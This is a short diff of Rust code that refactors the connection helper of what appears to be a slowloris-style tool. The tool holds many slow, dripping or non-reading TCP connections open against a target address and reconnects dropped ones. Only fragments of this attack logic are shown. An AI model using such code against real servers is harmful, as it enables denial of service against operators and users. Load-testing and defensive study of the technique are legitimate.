@@ -159,7 +159,7 @@ fn be_slow(attack: &Attack, stop: &AtomicBool, open: &AtomicUsize) -> io::Result
     let mut again = 0;
     let mut crowd = Vec::with_capacity(SLOW);
     for number in 0..SLOW {
-        crowd.push(Slow::connect(attack.address, number % 2 == 0)?);
+        crowd.push(Slow::connect(attack.address, (number % 2 == 0).then_some(0))?);
         open.store(crowd.len(), Relaxed);
     }
     while !stop.load(Relaxed) {
@@ -167,7 +167,7 @@ fn be_slow(attack: &Attack, stop: &AtomicBool, open: &AtomicUsize) -> io::Result
         for slow in &mut crowd {
             if slow.go_on(attack).is_err() {
                 again += 1;
-                *slow = Slow::connect(attack.address, slow.dripped.is_some())?;
+                *slow = Slow::connect(attack.address, slow.dripped.map(|_| 0))?;
             }
         }
         while begun.elapsed() < DRIP && !stop.load(Relaxed) {
@@ -178,11 +178,12 @@ fn be_slow(attack: &Attack, stop: &AtomicBool, open: &AtomicUsize) -> io::Result
 }
 
 impl Slow {
-    fn connect(address: SocketAddr, drips: bool) -> io::Result<Self> {
+    /// Somebody who has dripped so much, or never reads.
+    fn connect(address: SocketAddr, dripped: Option<usize>) -> io::Result<Self> {
         let stream = TcpStream::connect(address)?;
         stream.set_nodelay(true)?;
         stream.set_nonblocking(true)?;
-        Ok(Self { stream, dripped: drips.then_some(0) })
+        Ok(Self { stream, dripped })
     }
 
     /// Sends the next byte, or as many requests as are taken; an error when it was cut off.
